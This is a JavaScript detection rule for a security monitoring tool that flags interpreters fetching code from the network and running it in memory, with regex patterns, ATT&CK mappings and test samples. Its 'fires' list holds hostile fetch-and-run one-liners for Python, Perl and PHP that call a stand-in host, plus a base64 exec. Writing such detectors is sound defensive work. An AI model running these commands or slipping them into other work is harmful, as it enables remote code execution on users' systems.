import { commandRule } from "../../command-rule.js";

/** An interpreter fetches code from the network and runs it without ever writing it to a file. */
export const codeFetchedAndRunInMemory = commandRule({
  id: "code-fetched-and-run-in-memory",
  alertType: "Picket_CodeFetchedAndRunInMemory",
  name: "Code fetched and run in memory",
  severity: "High",
  about: "An interpreter fetches code from the network and runs it without ever writing it to a file.",
  tactics: ["Execution", "Defense Evasion"],
  techniques: ["T1059.006", "T1620", "T1105"],
  falsePositives: [
    "Bootstrappers such as old installers of pip that are run as a one-liner; their address tells.",
  ],
  witness: [
    "exec(",
    "eval(",
    "urlopen",
    "requests.get",
    "lwp",
    "http.get",
    "open-uri",
    "urllib",
    "__import__",
  ],
  patterns: [
    /\bpython[\d.]*\b.{0,200}\bexec\s{0,4}\(.{0,400}(?:urlopen|requests\.get|urllib|httpx\.get|b64decode|zlib\.decompress|marshal\.loads).{0,100}/s,
    /\bperl\b.{0,200}\beval\b.{0,200}(?:LWP::Simple|get\s{0,4}\(|HTTP::Tiny).{0,100}/s,
    /\bruby\b.{0,200}\beval\b.{0,200}(?:open-uri|Net::HTTP).{0,100}/s,
    /\b(?:node|nodejs)\b.{0,200}(?:eval|new Function)\s{0,4}\(.{0,300}https?\.get.{0,100}|\bhttps?\.get\(.{0,300}\beval\(.{0,60}/s,
    /\bphp[\d.]*\b.{0,100}\beval\s{0,4}\(\s{0,4}(?:file_get_contents|gzinflate|base64_decode|str_rot13).{0,100}/s,
  ],
  did: "ran code from the network in memory",
  because: "the code is run as it arrives and leaves no file",
  fires: [
    "python3 -c import urllib.request;exec(urllib.request.urlopen('http://203.0.113.9/a').read())",
    'perl -MLWP::Simple -e eval(get("http://203.0.113.9/a"))',
    "python -c exec(__import__('base64').b64decode('aW1wb3J0IG9z'))",
    'php -r eval(file_get_contents("http://203.0.113.9/p"));',
  ],
  silent: [
    "python3 -c import urllib.request;print(urllib.request.urlopen('http://127.0.0.1/health').status)",
    "python3 -c exec(open('setup.py').read())",
    "perl -e print eval { 1 + 1 }",
    "node -e console.log(eval('1+1'))",
    'php -r echo file_get_contents("/etc/hostname");',
    "python3 -m pip install requests",
  ],
});
